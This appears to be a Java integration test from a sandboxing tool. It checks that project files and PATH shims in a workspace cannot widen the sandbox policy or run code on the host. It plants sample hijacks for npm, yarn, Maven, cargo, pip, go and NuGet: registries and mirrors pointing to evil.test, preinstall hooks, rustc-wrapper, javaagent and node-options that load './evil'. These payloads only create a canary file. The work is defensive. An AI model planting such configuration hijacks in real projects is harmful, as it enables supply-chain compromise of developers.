// SPDX-FileCopyrightText: 2026 The Cloister authors
// SPDX-License-Identifier: Apache-2.0
package dev.cloister.system.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cloister.system.AsEachUser;
import dev.cloister.system.Launcher;
import dev.cloister.system.Launcher.Prepared;
import dev.cloister.system.LauncherExtension;
import dev.cloister.system.LauncherExtension.Launchers;
import dev.cloister.system.world.Execution;
import dev.cloister.system.world.User;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.extension.ExtendWith;

/// A workspace that would be the author of its own policy: by what tools read in a project, and by programs first on PATH.
/// A file named `canary` beside the workspace shows that something of it ran on the host.
@ExtendWith(LauncherExtension.class)
final class WorkspaceAuthorIT {
    private static final List<String> PROGRAMS = List.of(
            "npm", "node", "yarn", "pnpm", "mvn", "gradle", "java", "pip", "pip3", "python3", "cargo", "rustc", "go", "gem", "ruby",
            "dotnet", "apt-get", "apt-config", "git", "bwrap", "nft", "ip", "unshare", "setpriv", "sh", "env", "flock", "readlink");

    private final Launchers launchers;

    WorkspaceAuthorIT(Launchers launchers) {
        this.launchers = launchers;
    }

    @AsEachUser
    void whatToolsReadInAProjectAllowsNothingAndRunsNothing(User user) throws IOException {
        var prepared = project(user).prepare();
        var shown = prepared.launcher().command(
                prepared, "policy", "show", "--json", "--preset", "npm,pip,maven,cargo,go,gem,nuget");
        assertThat(shown.exit()).as(shown.text()).isZero();
        var wishes = shown.stdout().indexOf("\"wishes\"");
        assertThat(wishes < 0 ? shown.stdout() : shown.stdout().substring(0, wishes)).doesNotContain("evil.test");
        assertNothingRan(prepared);
    }

    @AsEachUser
    void programsFirstOnPathAreNotRun(User user) throws IOException {
        var prepared = project(user).prepare();
        for (var name : PROGRAMS) {
            var shim = prepared.workspace().resolve("bin").resolve(name);
            Files.createDirectories(shim.getParent());
            Files.writeString(shim, "#!/bin/bash\n: >%s\n".formatted(prepared.base().resolve("canary")));
            Files.setPosixFilePermissions(shim, PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        Execution.need("chown", "-R", "--reference=" + prepared.base(), prepared.workspace().toString());
        var bin = prepared.workspace().resolve("bin");
        var whole = prepared.execution(List.of("echo", "ran"));
        var command = new ArrayList<>(whole.command());
        command.addAll(
                command.indexOf(prepared.launcher().program().toString()),
                List.of("env", "PATH=%s:bin::.:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin".formatted(bin)));
        var ended = new Execution(command, whole.environment(), whole.directory(), whole.limit()).run();
        assertThat(ended.stdout()).as(ended.text()).isEqualTo("ran\n");
        assertNothingRan(prepared);
    }

    private Launcher project(User user) {
        return launchers
                .as(user)
                .withDefaultPolicy()
                .file(".npmrc", "registry=https://evil.test/\nscript-shell=./evil\nnode-options=--require ./evil.js\n")
                .file(".yarnrc.yml", "yarnPath: ./evil.js\nnpmRegistryServer: https://evil.test/\n")
                .file("package.json", "{\"packageManager\":\"yarn@9.9.9\",\"scripts\":{\"preinstall\":\"./evil\"}}\n")
                .file(".mvn/extensions.xml", "<extensions><extension><groupId>evil</groupId></extension></extensions>\n")
                .file(".mvn/jvm.config", "-javaagent:evil.jar\n")
                .file(".mvn/maven.config", "--settings=.mvn/settings.xml\n")
                .file(".mvn/settings.xml", "<settings><mirrors><mirror><url>https://evil.test/</url></mirror></mirrors></settings>\n")
                .file("init.gradle", "throw new Error()\n")
                .file("settings.gradle", "throw new Error()\n")
                .file(".tool-versions", "nodejs path:./evil\n")
                .file("rust-toolchain.toml", "[toolchain]\npath = \"./evil\"\n")
                .file(".cargo/config.toml", "[build]\nrustc-wrapper = \"./evil\"\n[registries.e]\nindex = \"https://evil.test/\"\n")
                .file("go.mod", "module evil.test/m\ntoolchain go9.9.9\n")
                .file("pip.conf", "[global]\nindex-url = https://evil.test/simple\n")
                .file("pyproject.toml", "[[tool.uv.index]]\nurl = \"https://evil.test/simple\"\n")
                .file("NuGet.Config", "<configuration><packageSources><add key=\"e\" value=\"https://evil.test/\"/></packageSources></configuration>\n")
                .file("evil", "#!/bin/bash\n: >../canary\n")
                .file("evil.js", "require('fs').writeFileSync('../canary', '')\n");
    }

    private static void assertNothingRan(Prepared prepared) {
        assertThat(prepared.base().resolve("canary")).doesNotExist();
    }
}
